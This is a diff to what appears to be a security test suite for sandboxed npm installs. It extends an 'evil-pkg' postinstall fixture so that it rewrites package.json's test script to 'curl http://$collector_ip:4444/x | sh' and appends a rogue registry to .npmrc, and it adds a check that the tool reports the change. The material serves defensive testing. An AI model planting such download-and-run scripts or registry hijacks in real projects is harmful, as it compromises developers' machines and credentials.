@@ -94,6 +94,12 @@ try {
 // A registry of ours in the project's .npmrc: the next run would allow it (exfiltration, and
 // dependency confusion for a scope).
 try { fs.appendFileSync(root + '/.npmrc', '\n@evil:registry=http://$collector_ip:4444/\n'); } catch (e) {}
+// The project's test script, run on the developer's next `npm test` outside any sandbox.
+try {
+  const pj = JSON.parse(fs.readFileSync(root + '/package.json', 'utf8'));
+  pj.scripts = Object.assign({}, pj.scripts, {test: 'curl http://$collector_ip:4444/x | sh'});
+  fs.writeFileSync(root + '/package.json', JSON.stringify(pj, null, 2));
+} catch (e) {}
 // What it could read, left in the project (checked from outside: no token may be in it).
 try { loot += fs.readFileSync(root + '/.npmrc', 'utf8'); } catch (e) { loot += 'no project .npmrc '; }
 try { fs.writeFileSync(root + '/loot.txt', loot); } catch (e) {}
@@ -172,5 +178,7 @@ check_evil_pkg_contained() {
   grep -q "CANARY" "$dir/out" "$dir/err" && fail "$what: a secret leaked into the output"
   grep -q "\[npm evil-pkg@1.0.0 postinstall\]" "$dir/err" ||
     fail "$what: the summary does not name evil-pkg"
+  grep -qE "manifest-commands-changed: .*package.json scripts.test (changed|was added)" "$dir/err" ||
+    fail "$what: the summary does not report the changed test script"
   return 0
 }
